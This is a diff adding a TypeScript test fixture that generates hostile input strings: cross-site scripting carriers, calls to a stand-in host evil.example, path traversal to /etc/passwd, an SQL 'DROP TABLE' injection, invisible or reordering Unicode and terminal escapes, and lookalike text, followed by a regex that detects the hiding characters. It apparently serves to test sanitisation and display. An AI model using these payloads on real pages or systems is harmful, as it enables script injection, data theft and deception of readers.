@@ -1,0 +1,82 @@
+// Texts that want to be more than text on a page: markup, scripts, addresses, templates, and characters that hide or reorder.
+
+const acts = ['alert(1)', 'document.title=1', "fetch('https://evil.example')"]
+const carriers: readonly ((act: string) => string)[] = [
+  (act) => `<script>${act}</script>`,
+  (act) => `<img src=x onerror="${act}">`,
+  (act) => `"><svg onload=${act}>`,
+  (act) => `'><iframe srcdoc="<script>${act}</script>">`,
+  (act) => `<a href="javascript:${act}">approve</a>`,
+  (act) => `<style>@import 'https://evil.example/${act}'</style>`,
+  (act) => `<details open ontoggle=${act}>`,
+  (act) => `<input autofocus onfocus=${act}>`,
+  (act) => `<math><mtext></mtext><script>${act}</script></math>`,
+  (act) => `</textarea><script>${act}</script>`,
+  (act) => `</title><script>${act}</script>`,
+  (act) => `<!--><script>${act}</script>-->`,
+  (act) => `{{constructor.constructor('${act}')()}}`,
+  (act) => `\${${act}}`,
+  (act) => `javascript:${act}//`,
+  (act) => `data:text/html,<script>${act}</script>`,
+  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
+  (act) => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
+]
+const hidden = [
+  '\u202e',
+  '\u202d',
+  '\u202a',
+  '\u2066',
+  '\u2067',
+  '\u2068',
+  '\u2069',
+  '\u200b',
+  '\u200c',
+  '\u200d',
+  '\u200e',
+  '\u200f',
+  '\u061c',
+  '\u2060',
+  '\ufeff',
+  '\u00ad',
+  '\u180e',
+  '\u2028',
+  '\u2029',
+  '\u0007',
+  '\u0008',
+  '\u001b[2J',
+  '\u009b31m',
+  '\r',
+]
+const odd = [
+  '__proto__',
+  'constructor',
+  'null',
+  'undefined',
+  '[object Object]',
+  '../../../etc/passwd',
+  '%3Cscript%3E',
+  "'; DROP TABLE changes; --",
+  '**approved**',
+  '[approve](javascript:alert(1))',
+  '![x](https://evil.example/x.png)',
+  '{"state":"applied"}',
+  '••••',
+  'a\n\n\n\n\n\n\n\napproved',
+  '\u{1f468}\u200d\u{1f469}',
+  'x\u0301'.repeat(30),
+  'ﷺ'.repeat(20),
+  'شاهد',
+  'W'.repeat(300),
+  '𝐚𝐩𝐩𝐫𝐨𝐯𝐞𝐝',
+  'аррrоvеd',
+  '\u{e0041}\u{e0042}',
+]
+
+export const hostileTexts: readonly string[] = [
+  ...carriers.flatMap((carrier) => acts.map(carrier)),
+  ...hidden.flatMap((character) => [`ad${character}min`, `${character}devorppa`]),
+  ...odd,
+]
+
+/** What must never stand in what a person reads: it would hide or reorder what stands beside it. */
+export const hiding = /[\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\u061c\u2060\ufeff\u00ad\u0007\u0008\u001b]/u
